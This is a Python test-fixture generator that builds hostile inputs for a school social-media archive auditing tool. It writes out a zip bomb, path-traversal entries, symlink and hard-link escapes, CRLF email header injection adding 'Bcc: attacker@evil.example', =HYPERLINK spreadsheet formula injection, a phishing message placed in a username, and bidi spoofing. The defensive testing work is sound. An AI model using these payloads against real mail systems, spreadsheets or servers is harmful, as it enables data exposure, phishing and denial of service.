#!/usr/bin/env python3
"""Generate the hostile and broken inputs the tests run the tool on (deterministic).

    python3 scripts/make-hostile.py OUT [--big-line-mb 500]

One archive (zip or folder) or input file per case, named for the case:

  bomb.zip               data/tweets.js inflates to 1 GiB of zeros from about 1 MB (zip bomb)
  many-entries.zip       a real archive plus 5 000 extra entries
  traversal.zip          entries named ../../evil.js, /etc/evil.js and data/../../x.js beside a real archive
  symlink/               a folder archive whose data/tweets.js links to a file outside it
  big-line/              data/tweets.js holds one record of BIG_LINE_MB megabytes on a single line
  nested.zip             a tweet nested 100 000 levels deep
  types.zip              numbers where strings are expected and the reverse, duplicate keys
  encoding.zip           invalid UTF-8, lone surrogates in \\u escapes, NUL bytes
  wrong-prefix.zip       data/tweets.js assigned to window.YTD.direct_messages.part0
  missing-part.zip       the manifest lists data/tweets-part1.js, which is not there
  contradicting.zip      data/account.js and the manifest disagree on the account id
  cp1252/                inventory.json and students.csv written in Windows-1252
  masking/               a whole district whose archives name its students in every form (see masking_cases)
"""
import argparse
import io
import json
import os
import zipfile

FIXED = (2026, 10, 30, 12, 0, 0)


def js(name, records, part=0):
    return ("window.YTD.%s.part%d = " % (name, part) + json.dumps(records, indent=2, separators=(",", " : "))).encode()


def account(account_id="3001", username="hostile_teacher"):
    return js("account", [{"account": {"email": "hostile@example.org", "createdVia": "web", "username": username,
                                       "accountId": account_id, "createdAt": "2015-01-01T00:00:00.000Z",
                                       "accountDisplayName": "Hostile"}}])


def manifest(account_id="3001", username="hostile_teacher", tweets_files=("data/tweets.js",)):
    config = {"userInfo": {"accountId": account_id, "userName": username, "displayName": "Hostile"},
              "archiveInfo": {"sizeBytes": "1000", "generationDate": "2026-10-28T09:00:00.000Z", "isPartialArchive": False},
              "dataTypes": {"tweets": {"files": [{"fileName": f, "globalName": "YTD.tweets.part%d" % i, "count": "1"}
                                                 for i, f in enumerate(tweets_files)]}}}
    return ("window.__THAR_CONFIG = " + json.dumps(config, indent=2)).encode()


def tweet(tid, text):
    return {"tweet": {"id_str": tid, "id": tid, "full_text": text, "created_at": "Wed Oct 10 20:19:24 +0000 2026",
                      "entities": {"user_mentions": [], "urls": [], "hashtags": []}, "lang": "en"}}


def write_zip(path, files, compression=zipfile.ZIP_DEFLATED):
    with zipfile.ZipFile(path, "w", compression) as z:
        for name in sorted(files):
            info = zipfile.ZipInfo(name, FIXED)
            info.compress_type = compression
            z.writestr(info, files[name])


def base_files(**kw):
    return {"data/manifest.js": manifest(**kw), "data/account.js": account(kw.get("account_id", "3001"), kw.get("username", "hostile_teacher")),
            "data/tweets.js": js("tweets", [tweet("1", "hello")])}


def mail_and_csv_cases(out):
    """E-mail and CSV cases, under OUT/mail-and-csv/:

    recipient-crlf/inventory.json, .xml  a district recipient with CRLF and a Bcc:, a school one with an SMTP command
    from-crlf/socialaudit.json           mail.from with CRLF and a Bcc:
    school-case/inventory.json           school ids that differ only in case, and 'Unassigned'
    reviews-date/reviews.json            a review dated 2026-02-30
    district/                            a usable district whose archives speak for themselves: a username with a
                                         paragraph in it, a student's own archive, a folder named after a student,
                                         and an inventory account whose tweets hold formulas and bidi controls
    """
    base = os.path.join(out, "mail-and-csv")
    injected = "principal@haywood.k12.nc.us\r\nBcc: attacker@evil.example"

    def district(recipients, school_recipients, schools=None):
        return {"district": {"name": "Haywood County Schools", "emailDomains": ["haywood.k12.nc.us"], "reportRecipients": recipients},
                "schools": schools or [{"id": "pisgah-high", "name": "Pisgah High School", "reportRecipients": school_recipients}]}

    def write(path, text):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "wb").write(text.encode() if isinstance(text, str) else text)

    write(os.path.join(base, "recipient-crlf", "inventory.json"),
          json.dumps(district(["communications@haywood.k12.nc.us", injected], ["principal.phs@haywood.k12.nc.us\r\nRSET"]), indent=2))
    write(os.path.join(base, "recipient-crlf", "inventory.xml"),
          '<?xml version="1.0" encoding="UTF-8"?>\n<inventory xmlns="urn:socialaudit:inventory:1">\n'
          '  <district name="Haywood County Schools">\n'
          '    <reportRecipient>principal@haywood.k12.nc.us&#13;&#10;Bcc: attacker@evil.example</reportRecipient>\n'
          '  </district>\n</inventory>\n')
    write(os.path.join(base, "from-crlf", "socialaudit.json"),
          json.dumps({"mail": {"from": "socialaudit@haywood.k12.nc.us\r\nBcc: attacker@evil.example"}}, indent=2))
    write(os.path.join(base, "school-case", "inventory.json"),
          json.dumps(district([], [], schools=[{"id": "pisgah-high", "name": "Pisgah"}, {"id": "Pisgah-High", "name": "Pisgah again"},
                                               {"id": "Unassigned", "name": "Nobody's"}]), indent=2))
    write(os.path.join(base, "reviews-date", "reviews.json"),
          json.dumps([{"fingerprint": "0123456789abcdef", "reviewer": "M. Reed", "date": "2026-02-30"}], indent=2))

    root = os.path.join(base, "district")
    inventory = district(["communications@haywood.k12.nc.us"], ['"Principal, Pisgah" <principal.phs@haywood.k12.nc.us>'])
    inventory["people"] = [{"email": "mreed@haywood.k12.nc.us", "name": "Morgan Reed", "role": "administrator", "school": "pisgah-high"}]
    inventory["accounts"] = [{"handle": "pisgahhigh", "accountId": "1001", "tier": "primary", "school": "pisgah-high",
                              "createdBy": "district", "managers": ["mreed@haywood.k12.nc.us"]}]
    write(os.path.join(root, "inventory.json"), json.dumps(inventory, indent=2))
    write(os.path.join(root, "students.csv"), "student_id,school,handle,account_id,first_name,last_name,directory_opt_out\r\n"
                                              "S10293,pisgah-high,jamie_hoops7,880001,Jamie,Hollis,false\r\n")
    write(os.path.join(root, "socialaudit.json"), json.dumps({"inventory": "inventory.json", "roster": "students.csv",
                                                              "archives": "archives", "out": "out", "state": "state/socialaudit.sqlite",
                                                              "mail": {"from": "Haywood audit <socialaudit@haywood.k12.nc.us>"}}, indent=2))
    archives = os.path.join(root, "archives")
    os.makedirs(archives, exist_ok=True)
    paragraph = "jamie_hoops7\n\nACTION REQUIRED: your district password expired; re-enter it at https://evil.example/login\n"
    write_zip(os.path.join(archives, "notice.zip"), base_files(account_id="880002", username=paragraph))
    write_zip(os.path.join(archives, "jamie.zip"), base_files(account_id="880001", username="jamie_hoops7"))
    folder = os.path.join(archives, "Jamie Hollis")
    for name, data in base_files(account_id="880003", username="\u00a0=HYPERLINK(\"https://evil.example\")").items():
        write(os.path.join(folder, name), data)
    files = base_files(account_id="1001", username="pisgahhigh")
    files["data/tweets.js"] = js("tweets", [tweet("41", "=HYPERLINK(\"https://evil.example\",\"grades\") @jamie_hoops7"),
                                            tweet("42", "\u202e@jamie_hoops7 txt.exe \uff1d1+1 |cmd")])
    write_zip(os.path.join(archives, "pisgahhigh.zip"), files)


def masking_cases(out):
    """masking/: a district whose archives name its students in every way people write names.

    Roster: Jamie Hollis (opted out), Tyler "Brooks, Jr.", Anne Marie Duval, Will Park (opted out).
    The names are in tweets, a connected application, the archive's e-mail address, the profile,
    an archive's file name and another's folder name; "we will park the buses" names nobody.
    students-shifted.csv puts names where an account id and the opt-out belong.
    """
    root = os.path.join(out, "masking")
    archives = os.path.join(root, "archives")
    os.makedirs(archives, exist_ok=True)
    domain = "masking.k12.example.us"
    people = [{"email": "admin@" + domain, "name": "Pat Admin", "role": "administrator", "school": "pisgah-high"},
              {"email": "coach@" + domain, "name": "Kim Coach", "role": "teacher", "school": "pisgah-high"}]
    accounts = [{"handle": "pisgahsports", "accountId": "4001", "tier": "school-owned", "school": "pisgah-high",
                 "createdBy": "school", "organization": "Pisgah Athletics", "managers": ["coach@" + domain],
                 "assignedBy": "admin@" + domain, "registeredEmail": "sports@" + domain, "emailRoutesTo": ["coach@" + domain, "admin@" + domain]},
                {"handle": "coach_k", "accountId": "4002", "tier": "personal", "school": "pisgah-high",
                 "createdBy": "individual", "owner": "coach@" + domain}]
    inventory = {"district": {"name": "Masking County Schools", "emailDomains": [domain], "websites": [domain],
                              "reportRecipients": ["comms@" + domain]},
                 "schools": [{"id": "pisgah-high", "name": "Pisgah High School"}], "people": people, "accounts": accounts}
    with open(os.path.join(root, "inventory.json"), "w") as f:
        json.dump(inventory, f, indent=2)
    with open(os.path.join(root, "students.csv"), "w", encoding="utf-8") as f:
        f.write("student_id,school,handle,account_id,first_name,last_name,directory_opt_out\n"
                "M1,pisgah-high,hoops_j,990001,Jamie,Hollis,true\n"
                'M2,pisgah-high,,990002,Tyler,"Brooks, Jr.",false\n'
                "M3,pisgah-high,,990003,Anne Marie,Duval,false\n"
                "M4,pisgah-high,wp_22,990004,Will,Park,true\n")
    config = {"inventory": "inventory.json", "roster": "students.csv", "archives": "archives", "out": "out",
              "state": "state/socialaudit.sqlite", "policy": {"approvedApps": ["SchoolPointe"], "officialClaimPhrases": ["official account"]}}
    with open(os.path.join(root, "socialaudit.json"), "w") as f:
        json.dump(config, f, indent=2)

    def reply(tid, text):
        record = tweet(tid, text)
        record["tweet"].update({"in_reply_to_user_id_str": "990004", "in_reply_to_screen_name": "wp_22",
                                "in_reply_to_status_id_str": "1800000000000000001"})
        return record

    def profile(bio, location):
        return js("profile", [{"profile": {"description": {"bio": bio, "website": "https://jamiehollis.example", "location": location}}}])

    # A school-owned account: the name in tweets, an application, the e-mail address and the file name.
    files = base_files(account_id="4001", username="pisgahsports")
    files["data/account.js"] = js("account", [{"account": {"email": "Jamie.Hollis@gmail.com", "createdVia": "web", "username": "pisgahsports",
                                                           "accountId": "4001", "createdAt": "2015-01-01T00:00:00.000Z",
                                                           "accountDisplayName": "Pisgah Sports \u2014 #JamieHollis"}}])
    files["data/profile.js"] = profile("Home of Jamie Hollis", "Hollis, Jamie's town")
    files["data/connected-application.js"] = js("connected_application", [{"connectedApplication": {
        "organization": {"name": "JamieHollis LLC", "url": "https://jamie-hollis.example"}, "name": "Jamie Hollis Fan Page",
        "permissions": ["read", "write"], "approvedAt": "2026-01-01T00:00:00.000Z", "id": "777"}}])
    files["data/tweets.js"] = js("tweets", [
        tweet("1800000000000000011", "Hollis, Jamie \u2014 MVP! Congrats Tyler Brooks too \U0001F3C0"),
        tweet("1800000000000000012", "Go Jamie Lynn Hollis! #JamieHollis #GoJamieHollis"),
        tweet("1800000000000000013", "Photos: https://news.example/2026/jamie-hollis-wins-state and Jamie_Hollis"),
        tweet("1800000000000000014", "Write to Jamie.Hollis@gmail.com &amp; JamieHollis"),
        tweet("1800000000000000015", "Anne-Marie Duval and Ja\u200bmie Hol\u00adlis"),
        tweet("1800000000000000016", "J\u0430mie H\u03bfllis gan\u00f3 \U0001F389 \u6771\u4eac"),
        tweet("1800000000000000017", "\u0645\u0628\u0631\u0648\u0643 JAMIE HOLLIS"),
    ])
    write_zip(os.path.join(archives, "pisgahsports-jamie-hollis.zip"), files)

    # A personal account in a folder named for the student: a profile that claims to be official.
    folder = os.path.join(archives, "Hollis, Jamie")
    files = base_files(account_id="4002", username="coach_k")
    files["data/account.js"] = js("account", [{"account": {"email": "coach@" + domain, "createdVia": "web", "username": "coach_k",
                                                           "accountId": "4002", "createdAt": "2015-01-01T00:00:00.000Z",
                                                           "accountDisplayName": "Coach K, #1 fan of Jamie Hollis"}}])
    files["data/profile.js"] = profile("The official account of Coach K and Jamie Lynn Hollis", "Tyler Brooks Field")
    files["data/tweets.js"] = js("tweets", [
        reply("1800000000000000021", "@wp_22 we will park the buses by the gym at 6"),
        reply("1800000000000000022", "@wp_22 Congrats Will Park!"),
        reply("1800000000000000023", "@wp_22 ask annemarie duval or tyler brooks"),
    ])
    for name, data in files.items():
        os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
        with open(os.path.join(folder, name), "wb") as f:
            f.write(data)

    # A student's own archive, handed in: not in the inventory, the name in its username.
    write_zip(os.path.join(archives, "JamieHollis-archive.zip"), base_files(account_id="990001", username="JamieHollis07"))

    # A roster whose second row is shifted by a column: the name lands in account_id and the opt-out.
    with open(os.path.join(root, "students-shifted.csv"), "w", encoding="utf-8") as f:
        f.write("student_id,school,handle,account_id,first_name,last_name,directory_opt_out\n"
                "M1,pisgah-high,hoops_j,990001,Jamie,Hollis,true\n"
                "M2,pisgah-high,,Tyler,Brooks,Jr.,Hollis\n")


def reading_cases(out):
    """Special files, links and hard links, invalid ids and names, two archives of one account.

    reading/ is an archives folder of its own (a whole run over it must finish):
      fifo.zip            a FIFO named like a zip
      zero.zip            a link to /dev/zero
      outside.zip         a link to a real archive outside the archives folder
      hardlinked.zip      a second name (hard link) of a real archive outside the folder
      fifo-data/          data/tweets.js is a FIFO; data/tweets-part1.js is read
      hardlink-data/      data/tweets.js is a hard link to a file outside the archive
      dir-data/           data/tweets.js is a folder; data/tweets-part1.js is read
      bad-ids.zip         tweet ids that are not digits beside good ones
      bad-username.zip    an account username that is no X username
      dup-old.zip, dup-new.zip          one account (id 3120), generated in January and in October
      dup-handle-a.zip, dup-handle-b.zip  one handle, two account ids
    many-parts.zip        4 000 empty tweet part files (reading must stay linear)
    """
    folder = os.path.join(out, "reading")
    outside = os.path.join(out, "reading-outside")
    for path in (folder, outside):
        os.makedirs(path, exist_ok=True)

    def fresh(path):
        if os.path.lexists(path):
            if os.path.isdir(path) and not os.path.islink(path):
                import shutil
                shutil.rmtree(path)
            else:
                os.remove(path)
        return path

    def archive_folder(name, account_id, username):
        top = fresh(os.path.join(folder, name))
        os.makedirs(os.path.join(top, "data"))
        for path, data in base_files(account_id=account_id, username=username).items():
            if path != "data/tweets.js":
                open(os.path.join(top, path), "wb").write(data)
        open(os.path.join(top, "data", "tweets-part1.js"), "wb").write(js("tweets", [tweet("41", "read after it")], part=1))
        return os.path.join(top, "data", "tweets.js")

    os.mkfifo(fresh(os.path.join(folder, "fifo.zip")))
    os.symlink("/dev/zero", fresh(os.path.join(folder, "zero.zip")))
    write_zip(os.path.join(outside, "outside.zip"), base_files(account_id="3101", username="outside_link"))
    os.symlink(os.path.relpath(os.path.join(outside, "outside.zip"), folder), fresh(os.path.join(folder, "outside.zip")))
    write_zip(fresh(os.path.join(outside, "hardlink-source.zip")), base_files(account_id="3102", username="hard_linked"))
    os.link(os.path.join(outside, "hardlink-source.zip"), fresh(os.path.join(folder, "hardlinked.zip")))

    os.mkfifo(archive_folder("fifo-data", "3103", "fifo_data"))
    secret = os.path.join(outside, "secret-tweets.js")
    open(fresh(secret), "wb").write(js("tweets", [tweet("666", "SECRET OUTSIDE THE ARCHIVE")]))
    os.link(secret, archive_folder("hardlink-data", "3104", "hardlink_data"))
    os.makedirs(archive_folder("dir-data", "3105", "dir_data"))

    files = base_files(account_id="3106", username="bad_ids")
    files["data/tweets.js"] = js("tweets", [tweet("50", "good"), tweet("51/../../evil", "path in the id"),
                                            tweet("abc", "letters"), tweet("52\n53", "a line break"), tweet("54", "good too")])
    write_zip(os.path.join(folder, "bad-ids.zip"), files)
    write_zip(os.path.join(folder, "bad-username.zip"), base_files(account_id="3107", username="evil.example/phish?x="))

    for name, date in (("dup-old.zip", "2026-01-05T09:00:00.000Z"), ("dup-new.zip", "2026-10-28T09:00:00.000Z")):
        files = base_files(account_id="3120", username="twice_archived")
        files["data/manifest.js"] = manifest("3120", "twice_archived").replace(b"2026-10-28T09:00:00.000Z", date.encode())
        files["data/tweets.js"] = js("tweets", [tweet("60" if name == "dup-old.zip" else "61", name)])
        write_zip(os.path.join(folder, name), files)
    for name, account_id in (("dup-handle-a.zip", "3121"), ("dup-handle-b.zip", "3122")):
        write_zip(os.path.join(folder, name), base_files(account_id=account_id, username="one_handle"))

    files = base_files(account_id="3130", username="many_parts")
    for part in range(1, 4001):
        files["data/tweets-part%d.js" % part] = js("tweets", [], part=part)
    write_zip(os.path.join(out, "many-parts.zip"), files)


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("out")
    ap.add_argument("--big-line-mb", type=int, default=500)
    args = ap.parse_args()
    out = args.out
    os.makedirs(out, exist_ok=True)

    # Zip bomb: 1 GiB of zeros, streamed into the entry so the generator stays small too.
    with zipfile.ZipFile(os.path.join(out, "bomb.zip"), "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in sorted(base_files().items()):
            if name != "data/tweets.js":
                z.writestr(zipfile.ZipInfo(name, FIXED), data)
        info = zipfile.ZipInfo("data/tweets.js", FIXED)
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as entry:
            block = b"\0" * (1 << 20)
            for _ in range(1024):
                entry.write(block)

    files = base_files(account_id="3002", username="many_entries")
    for i in range(5000):
        files["data/tweets_media/%05d.jpg" % i] = b"\xff\xd8\xff"
    write_zip(os.path.join(out, "many-entries.zip"), files)

    files = base_files(account_id="3003", username="traversal")
    files["../../evil.js"] = b"window.YTD.tweets.part9 = []"
    files["/etc/evil.js"] = b"window.YTD.tweets.part9 = []"
    files["data/../../x.js"] = b"window.YTD.tweets.part9 = []"
    write_zip(os.path.join(out, "traversal.zip"), files)

    folder = os.path.join(out, "symlink", "data")
    os.makedirs(folder, exist_ok=True)
    for name, data in base_files(account_id="3004", username="symlinked").items():
        if name != "data/tweets.js":
            open(os.path.join(out, "symlink", name), "wb").write(data)
    secret = os.path.join(out, "outside-secret.js")
    open(secret, "wb").write(js("tweets", [tweet("666", "SECRET OUTSIDE THE ARCHIVE")]))
    link = os.path.join(folder, "tweets.js")
    if os.path.lexists(link):
        os.remove(link)
    os.symlink(os.path.relpath(secret, folder), link)

    folder = os.path.join(out, "big-line", "data")
    os.makedirs(folder, exist_ok=True)
    for name, data in base_files(account_id="3005", username="big_line").items():
        if name != "data/tweets.js":
            open(os.path.join(out, "big-line", name), "wb").write(data)
    with open(os.path.join(folder, "tweets.js"), "wb") as f:
        f.write(b'window.YTD.tweets.part0 = [ {"tweet" : {"id_str" : "7", "full_text" : "')
        chunk = b"a" * (1 << 20)
        for _ in range(args.big_line_mb):
            f.write(chunk)
        f.write(b'", "created_at" : "Wed Oct 10 20:19:24 +0000 2026"}}, ')
        f.write(json.dumps(tweet("8", "after the big line")).encode() + b" ]")

    depth = 100000
    files = base_files(account_id="3006", username="nested")
    files["data/tweets.js"] = b"window.YTD.tweets.part0 = [ " + b"[" * depth + b"]" * depth + b", " + json.dumps(tweet("9", "after the nesting")).encode() + b" ]"
    write_zip(os.path.join(out, "nested.zip"), files)

    files = base_files(account_id="3007", username="types")
    files["data/tweets.js"] = (b'window.YTD.tweets.part0 = [ '
                               b'{"tweet" : {"id_str" : 10, "id" : 10, "full_text" : 12345, "created_at" : 1}}, '
                               b'{"tweet" : {"id_str" : "11", "full_text" : "first", "full_text" : "second", '
                               b'"entities" : {"user_mentions" : "not a list"}}}, '
                               b'{"tweet" : {"id_str" : ["12"], "full_text" : {"a" : 1}}}, '
                               b'{"tweet" : {"id_str" : "13", "full_text" : "fine", "in_reply_to_user_id_str" : 880001}} ]')
    write_zip(os.path.join(out, "types.zip"), files)

    files = base_files(account_id="3008", username="encoding")
    files["data/tweets.js"] = (b'window.YTD.tweets.part0 = [ '
                               b'{"tweet" : {"id_str" : "20", "full_text" : "bad \xff\xfe bytes"}}, '
                               b'{"tweet" : {"id_str" : "21", "full_text" : "lone \\ud800 surrogate"}}, '
                               b'{"tweet" : {"id_str" : "22", "full_text" : "raw NUL \x00 inside"}}, '
                               b'{"tweet" : {"id_str" : "23", "full_text" : "escaped NUL \\u0000 inside"}} ]')
    write_zip(os.path.join(out, "encoding.zip"), files)

    files = base_files(account_id="3009", username="wrong_prefix")
    files["data/tweets.js"] = js("direct_messages", [tweet("30", "not what the name says")])
    write_zip(os.path.join(out, "wrong-prefix.zip"), files)

    files = base_files(account_id="3010", username="missing_part")
    files["data/manifest.js"] = manifest("3010", "missing_part", ("data/tweets.js", "data/tweets-part1.js"))
    write_zip(os.path.join(out, "missing-part.zip"), files)

    files = base_files(account_id="3011", username="contradicting")
    files["data/manifest.js"] = manifest("9999", "contradicting")
    write_zip(os.path.join(out, "contradicting.zip"), files)

    folder = os.path.join(out, "cp1252")
    os.makedirs(folder, exist_ok=True)
    inventory = {"district": {"name": "Écoles de Haywood"}, "schools": [{"id": "pisgah-high", "name": "Pisgah Élémentaire"}],
                 "people": [], "accounts": []}
    open(os.path.join(folder, "inventory.json"), "wb").write(json.dumps(inventory, ensure_ascii=False).encode("cp1252"))
    roster = ("student_id,school,handle,account_id,first_name,last_name,directory_opt_out\r\n"
              "S1,pisgah-high,jpena,880004,José,Peña,true\r\n")
    open(os.path.join(folder, "students.csv"), "wb").write(roster.encode("cp1252"))
    mail_and_csv_cases(args.out)
    masking_cases(out)
    reading_cases(out)


if __name__ == "__main__":
    main()
